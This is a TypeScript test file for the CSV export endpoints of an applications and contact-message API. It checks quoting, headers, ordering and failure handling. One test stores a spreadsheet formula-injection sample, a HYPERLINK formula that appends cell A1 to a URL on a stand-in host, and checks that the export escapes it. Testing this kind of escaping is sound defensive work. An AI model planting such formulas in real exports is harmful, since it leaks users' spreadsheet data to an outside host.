import { once } from 'node:events';
import { parse } from 'csv-parse/sync';
import mongoose from 'mongoose';
import request from 'supertest';
import { createApplication, createContactMessage } from '../../testing/createLead';
import { heldAnswer } from '../../testing/heldAnswer';
import { type ServedApi, serve } from '../../testing/serve';
import { type TestAdmin, signIn } from '../../testing/signIn';
import { type LinkedApi, startLinkedApi } from '../../testing/startLinkedApi';
import { type ApplicationFields, Application } from '../applications/application.model';
import { leadRecord } from '../../db/leads';

const BOM = '\ufeff';

let linked: LinkedApi;
let served: ServedApi;
let admin: TestAdmin;
beforeAll(async () => {
  linked = await startLinkedApi();
  admin = await signIn();
  served = await serve(linked.api);
});
afterAll(async () => {
  served.close();
  await linked.stop();
});
beforeEach(() => Application.deleteMany());

const download = (path = '/api/v1/applications/export') =>
  request(served.server).get(path).set('Authorization', admin.bearer);

const rowsOf = (text: string) =>
  parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];

async function storeMany(count: number, message: string): Promise<void> {
  const records = Array.from({ length: count }, (_, nr): ApplicationFields => {
    const receivedAt = new Date(Date.UTC(2025, 0, 1, 0, 0, nr));
    return {
      ...leadRecord({ name: `Nr ${nr}`, email: 'a@b.example', message, receivedAt, months: 24 }),
      gradYear: nr,
    };
  });
  await Application.insertMany(records);
}

describe('the file', () => {
  it('has the columns of the product, every cell in quotes, and lines that end with CRLF', async () => {
    const receivedAt = new Date('2025-10-01T09:00:00.000Z');
    await createApplication({
      name: 'Ines',
      email: 'ines@b.example',
      message: 'Golf',
      gradYear: 2027,
      receivedAt,
    });
    await createApplication({ name: 'Ann', email: 'ann@b.example', message: 'Row', receivedAt: new Date(0) });

    const { text } = await download().expect(200);

    expect(text).toBe(
      [
        `${BOM}"name","email","grad_year","message","created_at"`,
        '"Ines","ines@b.example","2027","Golf","2025-10-01T09:00:00.000Z"',
        '"Ann","ann@b.example","","Row","1970-01-01T00:00:00.000Z"',
        '',
      ].join('\r\n'),
    );
  });

  it('is a dated attachment that is never cached', async () => {
    const { headers } = await download().expect(200);

    const day = new Date().toISOString().slice(0, 10);
    expect(headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      'content-disposition': `attachment; filename="applications-${day}.csv"`,
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(headers).not.toHaveProperty('etag');
  });

  it('has only a header line without records', async () => {
    const { text } = await download().expect(200);

    expect(text).toBe(`${BOM}"name","email","grad_year","message","created_at"\r\n`);
  });

  it('preserves every name and text, and contains no formula', async () => {
    const names = ['نور الهدى', '山田 太郎', 'Zoë 🏌️‍♀️', 'Seán "Jack" O’Hara', 'a,b;c', "O'Neill"];
    for (const name of names) await createApplication({ name });
    const formula = '=HYPERLINK("https://x.example?"&A1,"click")\r\nsecond line';
    const { _id } = await createApplication({ name: '＝1+1', message: formula, flags: ['honeypot'] });

    const rows = rowsOf((await download().expect(200)).text);

    expect(rows.slice(1).map(({ name }) => name)).toEqual(names.toReversed());
    expect(rows[0]).toMatchObject({ name: "'＝1+1", message: `'${formula}` });
    expect((await Application.findById(_id).orFail()).message).toBe(formula);
  });

  it('of the contact messages has no year, and the newest first', async () => {
    await createContactMessage({ name: 'Ann' });
    await createContactMessage({ name: 'Ines' });

    const { text, headers } = await download('/api/contact/export').expect(200);

    expect(text.split('\r\n')[0]).toBe(`${BOM}"name","email","message","created_at"`);
    expect(rowsOf(text)).toMatchObject([{ name: 'Ines' }, { name: 'Ann' }]);
    expect(headers['content-disposition']).toMatch(/^attachment; filename="contact-\d{4}-\d\d-\d\d\.csv"$/);
  });

  it('of 3,000 is complete and in order, the newest first', async () => {
    await storeMany(3000, 'x'.repeat(500));

    const rows = rowsOf((await download().expect(200)).text);

    expect(rows.map(({ grad_year }) => Number(grad_year))).toEqual(
      Array.from({ length: 3000 }, (_, nr) => 2999 - nr),
    );
  });

  it('is not written for a HEAD request', async () => {
    const { headers, text } = await request(served.server)
      .head('/api/applications/export')
      .set('Authorization', admin.bearer)
      .expect(200);

    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(text).toBeFalsy();
  });
});

it('answers an ordinary error when the database fails before the first row', async () => {
  await storeMany(1, 'x');
  // It fails after the caller is known, when the first row is read.
  const asked = new Promise<void>((resolve) => {
    mongoose.set('debug', (collection: string, method: string) => {
      if (collection === 'applications' && method === 'find') resolve(linked.link.cut());
    });
  });

  const [response] = await Promise.all([download(), asked]);
  mongoose.set('debug', false);
  await linked.link.mend();

  expect(response.status).toBe(503);
  expect(response.body.code).toBe('unavailable');
  expect(Number(response.headers['retry-after'])).toBeGreaterThan(0);
});

it('is aborted when the database fails in the middle', async () => {
  await storeMany(800, 'x'.repeat(20_000));
  const url = `${served.origin}/api/applications/export`;
  const answer = await heldAnswer({ link: linked.link, bytes: 10_000_000, url, bearer: admin.bearer });
  const failed = once(answer, 'error') as Promise<[Error]>;

  await linked.link.cut();

  const [error] = await failed;
  expect(error.message).toBe('aborted');
  expect(answer.complete).toBe(false);
  await linked.link.mend();
});
